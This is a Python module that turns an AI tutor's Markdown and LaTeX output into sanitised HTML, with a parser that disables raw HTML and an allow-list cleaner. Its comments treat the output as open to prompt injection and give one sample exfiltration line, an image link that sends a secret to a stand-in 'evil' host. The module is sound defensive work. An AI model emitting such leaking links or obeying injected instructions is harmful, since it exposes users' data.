"""Turn tutor output (Markdown with LaTeX math) into HTML that is safe to put in a page.

The text comes from a language model, and the model read passages a learner pasted in,
so it is untrusted: it may carry prompt-injected HTML, `javascript:` links or images that
leak data to a remote host the moment the page loads. Defence is in two layers:

1. markdown-it-py parses with raw HTML off, so markup in the text is shown as text;
   images are rendered as their alt text; `$…$` and `$$…$$` become MathML through
   latex2mathml, or the escaped LaTeX source when it cannot be converted.
2. nh3 (ammonia) cleans the result with an explicit allow-list of tags, attributes,
   attribute values and URL schemes, so a bug in layer 1 or in latex2mathml (which
   copies `\\href`, `\\style` and `\\class` arguments into attributes) cannot get
   anything executable or request-triggering through.

The parser and the cleaner are built once, at import; `render_markdown` is pure.

Anki cannot show MathML reliably but typesets LaTeX with MathJax, so `math="anki"` keeps
each formula as its escaped LaTeX source between MathJax's `\\(…\\)` / `\\[…\\]`
delimiters instead; everything else (parser, allow-lists) is the same.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Callable, Sequence
from typing import Literal
from xml.etree.ElementTree import tostring

import nh3
from latex2mathml.converter import convert_to_element
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.rules_block import StateBlock
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.dollarmath.index import math_block_dollar

__all__ = ["MathOutput", "render_markdown"]

MathOutput = Literal["mathml", "mathml-with-source", "anki"]


# The same cards are shown again and again (the queue, every grade's answer, the cards
# page), and rendering one costs more than the rest of the request that shows it. Short
# texts only, so the memory stays small (about 2,048 × 10 KB at most).
_REMEMBERED_LENGTH = 2000


def render_markdown(text: str, *, math: MathOutput = "mathml") -> str:
    """Render untrusted Markdown with `$…$` / `$$…$$` math to sanitised HTML.

    `math="anki"` writes formulas as `\\(…\\)` / `\\[…\\]` for Anki's MathJax;
    `math="mathml-with-source"` keeps each formula's LaTeX in its `alttext`, which the
    paper reader copies back out of a selection (pages/paper.js).
    """
    if len(text) <= _REMEMBERED_LENGTH:
        return _render_remembered(text, math)
    return _render(text, math)


def _render(text: str, math: MathOutput) -> str:
    return _CLEANER.clean(_MARKDOWN.render(text, {_MATH_OUTPUT: math}))


_render_remembered = functools.lru_cache(maxsize=2048)(_render)


# --- math -----------------------------------------------------------------------------

# latex2mathml keeps symbols as character references in element text ("&#x003C0;") and
# its own convert() un-escapes the whole serialisation to restore them, which also turns
# a `<` typed inside \text{...} back into markup. We serialise escaped and restore only
# the references (a reference can only ever denote a character, never markup).
_ESCAPED_CHAR_REF = re.compile(r"&amp;(#x[0-9A-Fa-f]{1,6};)")


# latex2mathml supports align* but not amsmath's aligned, which models use all the time
# inside $$…$$; unconverted, its & and \\ would show up as literal symbols.
_ALIGNED_ENV = re.compile(r"\\(begin|end)\{aligned\}")


def _latex_to_mathml(latex: str, *, display: bool, keep_source: bool = False) -> str:
    latex_for_converter = _ALIGNED_ENV.sub(r"\\\1{align*}", latex)
    try:
        element = convert_to_element(latex_for_converter, display="block" if display else "inline")
        if keep_source:
            element.set("alttext", latex)
        serialised = tostring(element, encoding="unicode")
    # latex2mathml raises its own errors for malformed input, but also IndexError,
    # RecursionError (deep nesting, recursive \def) and others: one bad formula must
    # never break a whole answer, so any failure shows the source instead.
    except Exception:
        return _math_error(latex, display=display)
    return _ESCAPED_CHAR_REF.sub(r"&\1", serialised)


def _math_error(latex: str, *, display: bool) -> str:
    code = f'<code class="math-error">{escapeHtml(latex)}</code>'
    # <pre> keeps a multi-line display formula (aligned rows) readable.
    return f"<pre>{code}</pre>" if display else code


# Anki closes a cloze deletion at the first "}}", even inside a formula, so
# {{c1::\\(\\frac{a}{b^{2}}\\)}} would end early. A space between the braces is
# meaningless in math mode and keeps the deletion whole.
_DOUBLE_CLOSING_BRACE = re.compile(r"\}(?=\})")


def _latex_for_mathjax(latex: str, *, display: bool) -> str:
    opening, closing = (r"\[", r"\]") if display else (r"\(", r"\)")
    return opening + escapeHtml(_DOUBLE_CLOSING_BRACE.sub("} ", latex)) + closing


# The key in markdown-it's per-render `env` that says how this render shows math.
_MATH_OUTPUT = "tutor_math_output"


def _render_math(latex: str, *, display: bool, env: EnvType) -> str:
    output = env.get(_MATH_OUTPUT)
    if output == "anki":
        return _latex_for_mathjax(latex, display=display)
    return _latex_to_mathml(latex, display=display, keep_source=output == "mathml-with-source")


def _render_inline_math(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    return _render_math(tokens[idx].content.strip(), display=False, env=env)


def _render_display_math(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # Also used for `$$…$$` inside a paragraph: <math display="block"> is phrasing
    # content, so it stays valid inside <p> (a <div>, as the plugin emits, would not).
    html = _render_math(tokens[idx].content.strip(), display=True, env=env)
    return html + "\n" if tokens[idx].block else html


# --- images and tables ----------------------------------------------------------------


def _render_image_as_alt(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # An <img> fetches its URL as soon as the page loads, so a prompt-injected
    # ![x](https://evil/?q=<secret>) would leak without a click. Keep only the words.
    return escapeHtml(self.renderInlineAsText(tokens[idx].children, options, env))


_TABLE_ALIGN = re.compile(r"text-align:(left|center|right)")


def _table_align_as_attribute(state: StateCore) -> None:
    """Move column alignment from `style` (which the cleaner drops) to `align`."""
    for token in state.tokens:
        if token.type not in ("th_open", "td_open"):
            continue
        style = token.attrGet("style")
        if style is None:
            continue
        del token.attrs["style"]
        match = _TABLE_ALIGN.fullmatch(str(style))
        if match:
            token.attrSet("align", match.group(1))


# --- parser ---------------------------------------------------------------------------

# Cap on how far the block rule looks for the closing $$. Inside a list item the plugin
# otherwise scans to the end of the document for every unclosed "$$" line, which is
# quadratic (8,000 "- $$a" lines took 8 s). A longer formula still renders, as $$…$$
# inside its paragraph.
_MAX_DISPLAY_MATH_LINES = 50
_ALLOW_LABELS = False  # "$$ x $$ (1)" would need ids and anchors; as text it survives.
_ALLOW_BLANK_LINES = False  # LaTeX forbids them; they also let an unclosed $$ run on.

_BlockRule = Callable[[StateBlock, int, int, bool], bool]


def _bounded_math_block_rule() -> _BlockRule:
    rule = math_block_dollar(allow_labels=_ALLOW_LABELS, allow_blank_lines=_ALLOW_BLANK_LINES)

    def math_block(state: StateBlock, start_line: int, end_line: int, silent: bool) -> bool:
        end_line = min(end_line, start_line + _MAX_DISPLAY_MATH_LINES)
        return rule(state, start_line, end_line, silent)

    return math_block


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(
        ["table", "strikethrough"]
    )
    dollarmath_plugin(
        md,
        # Pandoc's rule: no space inside the dollars and no digit right after the
        # closing one, so "costs $5 and $10" stays text while "$x_i$" is math.
        allow_space=False,
        allow_digits=False,
        # Models often put $$…$$ mid-paragraph; without this it would split into
        # stray dollars around a single-dollar formula.
        double_inline=True,
        allow_labels=_ALLOW_LABELS,
        allow_blank_lines=_ALLOW_BLANK_LINES,
    )
    md.block.ruler.at("math_block", _bounded_math_block_rule())
    md.add_render_rule("math_inline", _render_inline_math)
    md.add_render_rule("math_inline_double", _render_display_math)
    md.add_render_rule("math_block", _render_display_math)
    md.add_render_rule("image", _render_image_as_alt)
    md.core.ruler.push("table_align_attribute", _table_align_as_attribute)
    return md


# --- sanitising -----------------------------------------------------------------------


def _words(names: str) -> frozenset[str]:
    return frozenset(names.split())


_HTML_TAGS = _words(
    """
    p br hr em strong del s code pre blockquote a ul ol li h1 h2 h3 h4 h5 h6
    table thead tbody tr th td
    """
)

# Exactly what latex2mathml emits (checked by converting every command it knows).
# Left out on purpose: <semantics>/<annotation-xml> (an HTML integration point, a
# classic mutation-XSS route) and <maction>, which latex2mathml never emits; href,
# class and style, which \href, \class and \style copy from the formula; mathcolor and
# mathbackground (\color), which could hide text.
_MATHML_ATTRIBUTES: dict[str, frozenset[str]] = {
    "math": _words("alttext display xmlns"),
    "mi": _words("mathvariant"),
    "mn": _words("mathvariant"),
    "mo": _words(
        "accent fence form lspace rspace maxsize minsize movablelimits separator stretchy"
        " mathvariant"
    ),
    "mtext": _words("mathvariant"),
    "mspace": _words("width height depth linebreak"),
    "mfrac": _words("linethickness"),
    "mover": _words("accent"),
    "munder": _words("accentunder"),
    "munderover": _words("accent accentunder"),
    "mtable": _words("columnalign columnlines columnspacing rowlines rowspacing displaystyle"),
    "mtd": _words("columnalign"),
    "mstyle": _words("displaystyle scriptlevel mathsize"),
    "mpadded": _words("width height depth lspace voffset"),
    "menclose": _words("notation"),
}
_MATHML_TAGS = _MATHML_ATTRIBUTES.keys() | _words("mrow msub msup msubsup msqrt mroot mtr mphantom")

_ATTRIBUTES: dict[str, frozenset[str]] = {
    # No generic attributes (ammonia would otherwise allow lang and title everywhere).
    "*": frozenset(),
    "a": _words("href title"),
    "code": _words("class"),
    "th": _words("align"),
    "td": _words("align"),
    "ol": _words("start"),
    **_MATHML_ATTRIBUTES,
}

_CODE_CLASS = re.compile(r"language-[\w+#.-]{1,40}|math-error")
_TABLE_ALIGN_VALUES = _words("left center right")


def _filter_attribute_value(tag: str, attribute: str, value: str) -> str | None:
    """Narrow values the tag/attribute allow-list alone cannot (must never raise)."""
    if attribute == "class":
        return value if tag == "code" and _CODE_CLASS.fullmatch(value) else None
    if attribute == "align":
        return value if value in _TABLE_ALIGN_VALUES else None
    return value


_CLEANER = nh3.Cleaner(
    tags=_HTML_TAGS | _MATHML_TAGS,
    attributes=_ATTRIBUTES,
    attribute_filter=_filter_attribute_value,
    url_schemes={"http", "https", "mailto"},
    # Relative links would point into this app (an authenticated origin); the model
    # has no business linking there.
    url_relative="deny",
    link_rel="noopener noreferrer nofollow",
    strip_comments=True,
)

_MARKDOWN = _build_markdown()
